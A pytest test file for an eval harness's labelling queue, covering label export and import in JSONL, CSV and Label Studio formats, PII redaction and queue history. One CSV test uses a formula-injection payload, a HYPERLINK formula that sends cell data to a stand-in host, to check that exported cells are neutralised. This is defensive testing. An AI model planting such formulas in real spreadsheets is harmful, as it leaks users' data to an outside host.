import json
import tempfile
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness_evals.errors import UserError
from harness_evals.ingest import ingest_file
from harness_evals.label.labels import import_labels
from harness_evals.label.queue import enqueue, export_queue
from harness_evals.records import QueuePick
from harness_evals.store import Store
from tests.conftest import trace, write_jsonl


@pytest.fixture
def queued(store, tmp_path):
    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [trace("a", "refund order 1"), trace("b", "reset password"),
                                                           trace("c", "where is my parcel")]), kind="production")
    enqueue(store, [QueuePick("b", 3, "cluster 3: why", 2.0), QueuePick("a", 1, "cluster 1: why", 5.0)], run_id="r1")
    return store


def queue_state(store):
    return store.con.execute("SELECT trace_id, state, expected::VARCHAR, verdict FROM labelling_queue ORDER BY 1").fetchall()


def test_export_writes_queued_traces_by_priority_with_fields_to_fill(queued, tmp_path):
    assert export_queue(queued, tmp_path / "q.jsonl") == 2
    lines = [json.loads(line) for line in (tmp_path / "q.jsonl").read_text().splitlines()]
    assert [(x["trace_id"], x["cluster_id"], x["reason"], x["input"]) for x in lines] == [
        ("a", 1, "cluster 1: why", "refund order 1"), ("b", 3, "cluster 3: why", "reset password")
    ]
    assert lines[0]["timestamp"] == "2026-11-20T10:00:00Z"
    assert (lines[0]["expected"], lines[0]["verdict"], lines[0]["notes"]) == (None, None, None)
    # a trace without messages or steps: its request and answer as the conversation
    assert lines[0]["conversation"] == [{"role": "user", "text": "refund order 1"}, {"role": "assistant", "text": "ok"}]
    assert (lines[0]["steps"], lines[0]["flags"], lines[0]["suggested"]) == ([], [], None)
    assert lines[0]["outcome"] == {"reward": None, "success": None, "feedback_score": None, "succeeded": None}
    assert lines[0]["suggested_from"] == {  # r1 is no mining run here
        "region": "the run that queued it holds no trace of cluster 1: no tool checks or reference"}


def test_the_filled_in_export_imports_back_and_blank_lines_are_skipped(queued, tmp_path):
    export_queue(queued, tmp_path / "q.jsonl")
    lines = [json.loads(line) for line in (tmp_path / "q.jsonl").read_text().splitlines()]
    lines[0].update(expected="issues a refund", verdict="fail")
    report = import_labels(queued, write_jsonl(tmp_path / "filled.jsonl", lines), labeller="ana")
    assert (report.applied, report.blank, report.refused) == (1, 1, [])
    assert queue_state(queued) == [("a", "labelled", '"issues a refund"', "fail"), ("b", "queued", None, None)]
    assert queued.con.execute("SELECT labeller FROM labelling_queue WHERE trace_id = 'a'").fetchone() == ("ana",)


def test_importing_twice_changes_nothing(queued, tmp_path):
    path = write_jsonl(tmp_path / "l.jsonl", [{"trace_id": "a", "expected": {"required_tools": ["refund"]}}])
    import_labels(queued, path)
    before = queue_state(queued)
    report = import_labels(queued, path)
    assert (report.applied, report.unchanged) == (0, 1)
    assert queue_state(queued) == before


def test_a_different_label_for_a_labelled_trace_is_refused_not_overwritten(queued, tmp_path):
    import_labels(queued, write_jsonl(tmp_path / "1.jsonl", [{"trace_id": "a", "expected": "refund"}]))
    report = import_labels(queued, write_jsonl(tmp_path / "2.jsonl", [{"trace_id": "a", "expected": "apologise"}]))
    assert [(r.line, "already labelled differently" in r.reason) for r in report.refused] == [(1, True)]
    assert queue_state(queued)[0] == ("a", "labelled", '"refund"', None)
    replaced = import_labels(queued, tmp_path / "2.jsonl", replace=True)
    assert (replaced.applied, replaced.refused) == (1, [])
    assert queue_state(queued)[0] == ("a", "labelled", '"apologise"', None)


def test_bad_lines_are_refused_with_their_number_and_the_good_ones_applied(queued, tmp_path):
    path = write_jsonl(tmp_path / "l.jsonl", [
        {"trace_id": "a", "expected": "refund", "verdict": "maybe"},
        {"trace_id": "zzz", "expected": "x"},
        "not json",
        {"trace_id": "b", "expected": "reset link sent"},
        {"trace_id": "b", "expected": "something else"},
        {"trace_id": "c", "expected": {"contians": ["x"]}},
        {"trace_id": "c", "expected": {"regex": "(unclosed"}},
        {"trace_id": "c", "expected": {}},
    ])
    report = import_labels(queued, path)
    assert report.applied == 1
    assert [(r.line, r.reason) for r in report.refused] == [
        (1, "verdict: Input should be 'pass' or 'fail'"),
        (2, "no trace 'zzz' in the store: check the id, or ingest its trace first"),
        (3, "not valid JSON (Expecting value at column 1)"),
        (5, "trace 'b' is labelled differently on an earlier line of this file: keep one"),
        (6, "expected: contians: Extra inputs are not permitted"),
        (7, "expected: regex '(unclosed' does not compile: missing ), unterminated subpattern at position 0"),
        (8, "expected: no check given: name at least one of equals, contains, not_contains, regex, json_schema, "
            "required_tools, forbidden_tools, rubric, reference"),
    ]


def test_a_trace_labelled_without_being_queued_enters_the_queue_labelled(queued, tmp_path):
    import_labels(queued, write_jsonl(tmp_path / "l.jsonl", [{"trace_id": "c", "expected": "tracking link"}]))
    assert queued.con.execute("SELECT state, reason, cluster_id FROM labelling_queue WHERE trace_id = 'c'").fetchone() == (
        "labelled", "labelled directly", -1
    )


def test_a_missing_labels_file_is_a_user_error(store, tmp_path):
    with pytest.raises(UserError, match="no such labels file"):
        import_labels(store, tmp_path / "absent.jsonl")


def events(store):
    return store.con.execute("SELECT trace_id, state FROM queue_events ORDER BY happened_at, trace_id, state").fetchall()


def test_each_move_is_recorded_with_the_time_it_happened(store, tmp_path):
    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [trace("a", "refund order 1"), trace("b", "refund order 1")]),
                kind="production")
    before = datetime.now(timezone.utc)
    enqueue(store, [QueuePick("a", 1, "cluster 1: why", 5.0), QueuePick("b", 1, "cluster 1: why", 4.0)], run_id="r1")
    import_labels(store, write_jsonl(tmp_path / "l.jsonl", [{"trace_id": "a", "expected": "refunds order 1"}]))
    after = datetime.now(timezone.utc)
    moves = store.con.execute("SELECT trace_id, state, run_id, happened_at FROM queue_events ORDER BY happened_at, 1"
                              ).fetchall()
    assert [move[:3] for move in moves] == [("a", "queued", "r1"), ("b", "queued", "r1"),
                                            ("a", "labelled", store.latest_run_id("label"))]
    assert all(before <= happened_at <= after for *_, happened_at in moves)


def test_a_skipped_trace_leaves_the_queue_without_a_label_and_the_history_shows_each_move(queued, tmp_path):
    import_labels(queued, write_jsonl(tmp_path / "l.jsonl", [
        {"trace_id": "a", "skip": True, "notes": "test traffic"}, {"trace_id": "b", "expected": "sends a link"},
    ]))
    assert queue_state(queued) == [("a", "skipped", None, None), ("b", "labelled", '"sends a link"', None)]
    assert events(queued) == [("a", "queued"), ("b", "queued"), ("a", "skipped"), ("b", "labelled")]
    report = import_labels(queued, write_jsonl(tmp_path / "2.jsonl", [{"trace_id": "a", "expected": "refund"}]))
    assert "already labelled differently" in report.refused[0].reason


def test_csv_goes_out_and_comes_back(queued, tmp_path):
    import csv

    export_queue(queued, tmp_path / "q.csv", format="csv")
    with (tmp_path / "q.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["trace_id"] for row in rows] == ["a", "b"]
    assert rows[0]["transcript"] == ("user: refund order 1\nassistant: ok\n\noutcome: outcome unknown\nflags: none\n"
                                    "nearest eval case: none")
    assert json.loads(rows[0]["conversation"])[0] == {"role": "user", "text": "refund order 1"}
    assert (json.loads(rows[0]["steps"]), json.loads(rows[0]["suggested"])) == ([], None)
    rows[0].update(expected='{"contains": ["refund"]}', verdict="fail")
    rows[1].update(expected="{broken")
    with (tmp_path / "filled.csv").open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    report = import_labels(queued, tmp_path / "filled.csv")
    assert report.applied == 1
    assert [(r.line, r.reason) for r in report.refused] == [
        (3, "expected: starts with { but is not a JSON object (Expecting property name enclosed in double quotes)")
    ]
    assert queue_state(queued)[0] == ("a", "labelled", '{"contains": ["refund"]}', "fail")


def test_csv_cells_a_spreadsheet_would_run_are_quoted_and_come_back_as_they_were(store, tmp_path):
    import csv

    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [trace("-NfK3xQ", attack, output="@here done"),
                                                           trace("plain", "'=quoted already", output="-5 degrees")]),
                kind="production")  # a Firebase push id starts with "-"
    enqueue(store, [QueuePick("-NfK3xQ", 1, "+ reason", 2.0), QueuePick("plain", 1, "\tindented", 1.0)], run_id="r1")
    export_queue(store, tmp_path / "q.csv", format="csv")
    with (tmp_path / "q.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(row["trace_id"], row["input"], row["output"], row["reason"]) for row in rows] == [
        ("'-NfK3xQ", "'" + attack, "'@here done", "'+ reason"),
        ("plain", "''=quoted already", "'-5 degrees", "'\tindented")]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    rows[0].update(expected="=2 is not a formula here", notes="'=a note")  # as a spreadsheet saves, and marks, text
    with (tmp_path / "filled.csv").open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert import_labels(store, tmp_path / "filled.csv").applied == 1
    assert store.one("SELECT trace_id, expected::VARCHAR, notes FROM labelling_queue WHERE state = 'labelled'") == (
        "-NfK3xQ", '"=2 is not a formula here"', "=a note")


def test_a_csv_saved_by_excel_with_a_byte_order_mark_and_cells_past_128_kib_imports(store, tmp_path):
    import csv

    listing = json.dumps([{"order": f"W{n:07d}", "status": "delivered"} for n in range(4000)])  # ~160 KB
    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [trace("a", "list all my orders", steps=[
        {"type": "tool_call", "name": "list_orders", "arguments": {}, "result": listing}])]), kind="production")
    enqueue(store, [QueuePick("a", 1, "cluster 1", 1.0)], run_id="r1")
    export_queue(store, tmp_path / "q.csv", format="csv")
    default = csv.field_size_limit(2**31 - 1)  # to read the export here
    try:
        with (tmp_path / "q.csv").open(newline="", encoding="utf-8") as handle:
            [row] = list(csv.DictReader(handle))
        row["expected"] = "lists them"
        with (tmp_path / "excel.csv").open("w", newline="", encoding="utf-8-sig") as handle:  # "CSV UTF-8"
            writer = csv.DictWriter(handle, fieldnames=list(row))
            writer.writeheader()
            writer.writerow(row)
        csv.field_size_limit(128 * 1024)  # the csv module's default, as a fresh process has it
        report = import_labels(store, tmp_path / "excel.csv")
    finally:
        csv.field_size_limit(default)
    assert (report.applied, report.refused) == (1, [])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'tis", "plain", ""])
def test_an_inert_csv_cell_reads_back_as_the_value_it_was(value):
    from harness_evals.label.queue import as_inert_cell, from_inert_cell

    assert from_inert_cell(as_inert_cell(value)) == value


def test_label_studio_tasks_go_out_and_its_export_comes_back(queued, tmp_path):
    export_queue(queued, tmp_path / "tasks.json", format="labelstudio")
    tasks = json.loads((tmp_path / "tasks.json").read_text())
    assert [t["data"]["trace_id"] for t in tasks] == ["a", "b"]
    assert "expected" not in tasks[0]["data"]
    assert tasks[0]["data"]["dialogue"] == [{"author": "user", "text": "refund order 1"},
                                            {"author": "assistant", "text": "ok"}]
    assert tasks[0]["data"]["step_lines"] == [{"author": "steps", "text": "none"}] and "predictions" not in tasks[0]
    tasks[0]["annotations"] = [{"completed_by": {"email": "ana@example.com"}, "result": [
        {"from_name": "verdict", "type": "choices", "value": {"choices": ["fail"]}},
        {"from_name": "expected", "type": "textarea", "value": {"text": ['{"required_tools": ["issue_refund"]}']}},
    ]}]
    tasks[1]["annotations"] = [{"result": [{"from_name": "verdict", "type": "choices", "value": {"choices": ["skip"]}}]}]
    (tmp_path / "export.json").write_text(json.dumps(tasks))
    report = import_labels(queued, tmp_path / "export.json")
    assert (report.applied, report.skipped, report.refused) == (1, 1, [])
    assert queue_state(queued) == [("a", "labelled", '{"required_tools": ["issue_refund"]}', "fail"),
                                   ("b", "skipped", None, None)]
    assert queued.con.execute("SELECT labeller FROM labelling_queue WHERE trace_id = 'a'").fetchone() == (
        "ana@example.com",)


def test_the_export_is_redacted_with_placeholders_consistent_across_fields(store, tmp_path):
    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [
        trace("p", "refund to ana@example.com, card 4111 1111 1111 1111", output="sent to ana@example.com",
              metadata={"ip": "10.1.2.3"}),
    ]), kind="production")
    enqueue(store, [QueuePick("p", 1, "cluster 1", 1.0)], run_id="r1")
    export_queue(store, tmp_path / "q.jsonl")
    [item] = [json.loads(line) for line in (tmp_path / "q.jsonl").read_text().splitlines()]
    assert (item["input"], item["output"], item["metadata"]) == (
        "refund to <EMAIL_1>, card <CARD_1>", "sent to <EMAIL_1>", {"ip": "<IP_1>"}
    )
    assert [turn["text"] for turn in item["conversation"]] == [item["input"], item["output"]]  # numbered alike
    assert store.one("SELECT input FROM traces")[0].startswith("refund to ana@example.com")  # raw stays in the store


def test_numbers_keys_and_quoted_errors_are_redacted_in_every_export_format(store, tmp_path):
    error = ("Error: the payment could not be completed because the account on file was locked by fraud review "
             "for customer jane.doe@example.com")  # the email starts before character 120 and ends after it
    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [trace(
        "p", "charge my card", output="Your payment has been processed.",
        steps=[{"type": "tool_call", "name": "find_users", "arguments": {"q": "acct 9"},
                "result": {"ana@example.com": {"role": "owner"}}},
               {"type": "tool_call", "name": "charge", "arguments": {"card": 4111111111111111, "phone": 14155552671},
                "error": error}],
        messages=[{"role": "user", "content": "charge my card"},
                  {"role": "assistant", "content": "", "tool_calls": [{"id": "c1", "type": "function", "function": {
                      "name": "charge", "arguments": '{"card": 4111111111111111}'}}]},
                  {"role": "tool", "tool_call_id": "c1", "content": error},
                  {"role": "assistant", "content": "Your payment has been processed."}])]), kind="production")
    enqueue(store, [QueuePick("p", -1, "noise", 1.0)], run_id="r1")
    for format in ("jsonl", "csv", "labelstudio"):
        export_queue(store, tmp_path / f"q.{format}", format=format)
        text = (tmp_path / f"q.{format}").read_text()
        assert [raw for raw in ("4111111111111111", "14155552671", "ana@", "jane.doe") if raw in text] == [], format
    item = json.loads((tmp_path / "q.jsonl").read_text())
    assert item["steps"][0]["result"] == {"<EMAIL_2>": {"role": "owner"}}  # jane, in the conversation, is 1
    assert item["steps"][1]["arguments"] == {"card": "<CARD_1>", "phone": "<PHONE_1>"}
    assert item["suggested_from"]["not_contains"]["has been processed"].endswith("for customer <EMAIL_1>")


label_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=12),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3),
    max_leaves=8,
)


@given(rows=st.lists(st.one_of(
    st.fixed_dictionaries({"trace_id": st.sampled_from(["a", "b", "zzz"])},
                          optional={"expected": label_values, "verdict": label_values, "skip": label_values,
                                    "notes": label_values}),
    label_values,
), max_size=8), format=st.sampled_from(["jsonl", "labelstudio"]))
def test_any_label_file_is_applied_or_refused_row_by_row(rows, format):
    with tempfile.TemporaryDirectory() as folder, Store(Path(folder) / "h.duckdb") as store:
        ingest_file(store, write_jsonl(Path(folder) / "t.jsonl", [trace("a", "x"), trace("b", "y")]), kind="production")
        if format == "jsonl":
            path = write_jsonl(Path(folder) / "l.jsonl", [json.dumps(row) for row in rows])
        else:
            path = Path(folder) / "l.json"
            path.write_text(json.dumps([{"data": row} if isinstance(row, dict) else row for row in rows]))
        report = import_labels(store, path, format=format)
        settled = report.applied + report.skipped + report.unchanged + report.blank + len(report.refused)
        assert settled == len(rows)
        assert all(r.reason for r in report.refused)


def test_label_files_that_are_not_utf8_or_not_a_task_list_are_named(store, tmp_path):
    (tmp_path / "l.csv").write_bytes(b"trace_id,expected\na,caf\xe9\n")
    with pytest.raises(UserError, match="not valid UTF-8 \\(at offset 23\\): save the CSV as UTF-8"):
        import_labels(store, tmp_path / "l.csv")
    (tmp_path / "l.json").write_text('{"tasks": []}')
    with pytest.raises(UserError, match="not a Label Studio JSON export: it is not a list of tasks"):
        import_labels(store, tmp_path / "l.json")
    (tmp_path / "bad.jsonl").write_bytes(b'{"trace_id": "a", "expected": "caf\xe9"}\n')
    [refused] = import_labels(store, tmp_path / "bad.jsonl").refused
    assert refused.reason == "not valid UTF-8 (byte 0xe9 at offset 34): export the file as UTF-8"


def covered_state(store):
    return store.con.execute("SELECT trace_id, state, expected, covered_by FROM labelling_queue ORDER BY 1").fetchall()


@pytest.mark.parametrize("format", ["jsonl", "csv", "labelstudio"])
def test_a_trace_covered_by_an_eval_case_leaves_the_queue_without_a_case_in_every_format(queued, tmp_path, format):
    from harness_evals.suite.emit import emit_suite

    ingest_file(queued, write_jsonl(tmp_path / "e.jsonl", [{"id": "e-refund", "input": "refund my order"}]), kind="eval")
    suffix = {"jsonl": "jsonl", "csv": "csv", "labelstudio": "json"}[format]
    export_queue(queued, tmp_path / f"q.{suffix}", format=format)
    filled = tmp_path / f"filled.{suffix}"
    if format == "jsonl":
        lines = [json.loads(line) for line in (tmp_path / "q.jsonl").read_text().splitlines()]
        lines[0]["covered_by"] = " e-refund "
        write_jsonl(filled, lines)
    elif format == "csv":
        import csv

        with (tmp_path / "q.csv").open(newline="") as handle:
            rows = list(csv.DictReader(handle))
        rows[0]["covered_by"] = "e-refund"
        with filled.open("w", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    else:
        tasks = json.loads((tmp_path / "q.json").read_text())
        tasks[0]["annotations"] = [{"result": [
            {"from_name": "covered_by", "type": "textarea", "value": {"text": ["e-refund"]}}]}]
        filled.write_text(json.dumps(tasks))
    report = import_labels(queued, filled)
    assert (report.covered, report.applied, report.blank, report.refused) == (1, 0, 1, [])
    assert covered_state(queued) == [("a", "covered", None, "e-refund"), ("b", "queued", None, None)]
    assert import_labels(queued, filled).unchanged == 1
    assert emit_suite(queued, tmp_path / "suites").new_cases == 0  # no case of its own


def test_covered_by_names_a_case_in_the_store_and_never_comes_with_a_case_or_a_skip(queued, tmp_path):
    ingest_file(queued, write_jsonl(tmp_path / "e.jsonl", [{"id": "e-refund", "input": "refund my order"}]), kind="eval")
    report = import_labels(queued, write_jsonl(tmp_path / "l.jsonl", [
        {"trace_id": "a", "covered_by": "e-nowhere"},
        {"trace_id": "a", "covered_by": "e-refund", "expected": "issues a refund"},
        {"trace_id": "b", "covered_by": "e-refund", "skip": True},
    ]))
    assert [(r.line, r.reason) for r in report.refused] == [
        (1, "covered_by 'e-nowhere' is no eval case in the store: give the id of the case that covers this trace "
            "(the queue item's nearest_case names the nearest one), or ingest that case first"),
        (2, "covered_by 'e-refund' says an eval case already covers this trace, so it gets no case of its own: "
            "clear expected, or clear covered_by"),
        (3, "covered_by 'e-refund' says an eval case already covers this trace, so it gets no case of its own: "
            "clear skip, or clear covered_by"),
    ]
    assert covered_state(queued) == [("a", "queued", None, None), ("b", "queued", None, None)]
    import_labels(queued, write_jsonl(tmp_path / "2.jsonl", [{"trace_id": "a", "covered_by": "e-refund"}]))
    relabelled = import_labels(queued, write_jsonl(tmp_path / "3.jsonl", [{"trace_id": "a", "expected": "refund"}]))
    assert "already labelled differently" in relabelled.refused[0].reason  # nothing overwritten silently
